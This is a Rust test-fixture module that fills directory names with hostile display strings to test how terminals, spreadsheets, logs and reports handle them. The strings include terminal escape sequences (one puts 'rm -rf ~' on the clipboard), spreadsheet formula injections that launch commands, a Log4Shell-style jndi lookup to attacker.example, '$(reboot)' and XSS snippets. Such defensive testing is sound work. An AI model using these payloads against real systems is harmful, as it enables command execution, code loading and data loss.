//! Text that attacks whoever shows or exports it: terminals, spreadsheets, column widths, log files. Names of people
//! and groups, departments and the like are made of it in the scenario of that name; principal names keep to the
//! characters that the directory allows, in every position where they hurt.

use super::mix::{Subject, mix};

/// One attack each.
pub const TEXTS: &[&str] = &[
    // escape sequences: clear the screen, set the title, write the clipboard, a link, a report that types a command
    "\u{1b}[2J\u{1b}[1;1HAll findings fixed",
    "\u{1b}]0;owned\u{7}Titus",
    "\u{1b}]52;c;cm0gLXJmIH4K\u{7}Clio Board",
    "\u{1b}]8;;https://attacker.example\u{1b}\\Linus\u{1b}]8;;\u{1b}\\",
    "\u{1b}[6n\u{1b}P$q\"p\u{1b}\\Reva Port",
    "\u{1b}[31;1;5mRed\u{1b}[?1049l",
    // the same by single characters of the C1 range
    "\u{9b}2J\u{9d}0;owned\u{9c}Cee One",
    // right-to-left overrides and isolates, which reorder what follows on the row
    "Anna \u{202e}evitca\u{202c} Bidi",
    "\u{2066}\u{2067}Isolde\u{2069} \u{200f}\u{061c}",
    // rows and columns
    "Two\nLines",
    "Carriage\rReturn\u{8}\u{8}\u{8}Back",
    "Tab\tbed\u{b}\u{c}\u{0}Null",
    "Line\u{2028}and\u{2029}Paragraph\u{85}",
    // spreadsheets take these for formulas
    "=cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=HYPERLINK(\"https://attacker.example\",\"Open\")",
    "\"quoted\",\"fields\";semi|pipe",
    // widths: combining marks, joined emoji, flags, wide, ambiguous, invisible
    "Z\u{351}\u{35c}\u{322}\u{321}\u{34e}\u{347}a\u{30d}\u{30e}\u{304}\u{312}l\u{489}\u{489}\u{489}go",
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}\u{1f3f4}\u{e0067}\u{e0062}\u{e007f} Family",
    "\u{1f1e9}\u{1f1ea}\u{1f1eb}\u{1f1f7}\u{fe0f} Flags",
    "株式会社全角ＷＩＤＥ氏名",
    "\u{115f}\u{3164}\u{ffa0}",
    "\u{200b}\u{feff}\u{2060}",
    "§±·—…ambiguous",
    // markup of reports
    "<script>alert(1)</script>",
    "| a | b |\n|---|---|\n`code` **bold** [x](javascript:alert(1))",
    "${jndi:ldap://attacker.example/a} %s%n {{7*7}} $(reboot)",
    LONG,
];

/// As long as a display name may be.
const LONG: &str = "Wolfeschlegelsteinhausenbergerdorffwelchevoralternwarengewissenhaftschaferswessenschafewarenwohlgepflege\
undsorgfaltigkeitbeschutzenvorangreifendurchihrraubgierigfeindewelchevoralternzwolfhunderttausendjahresvorandieerscheinenvonder\
ersteerdemensch";

/// What principal names begin with, in their order; `$` is tolerated in the first place only.
const FIRST: &[&str] = &["!", "#", "$", "'", "-", "^", "_", "", "~"];

/// The text of this property of this user, cut to what the property holds. Every fourth is left alone.
pub fn text(seed: u64, subject: Subject, index: u32, longest: usize) -> Option<&'static str> {
    let stir = mix(seed ^ 0xbad, subject, u64::from(index));
    let text = TEXTS[(stir >> 8) as usize % TEXTS.len()];
    let end = text.char_indices().nth(longest).map_or(text.len(), |(at, _)| at);
    (!stir.is_multiple_of(4)).then(|| &text[..end])
}

/// What the principal name of this user begins with.
pub fn first(index: u32, count: u64) -> &'static str {
    let at = u64::from(index) * FIRST.len() as u64 / count.max(1);
    FIRST.get(at as usize).copied().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_attacks_fit_into_their_properties_and_differ() {
        let mut all = TEXTS.to_vec();
        all.sort_unstable();
        all.dedup();
        assert_eq!(all.len(), TEXTS.len());
        assert!(TEXTS.iter().all(|t| t.chars().count() <= 256));
        assert!((0..100).filter_map(|i| text(1, Subject::Department, i, 64)).all(|t| t.chars().count() <= 64));
    }
}
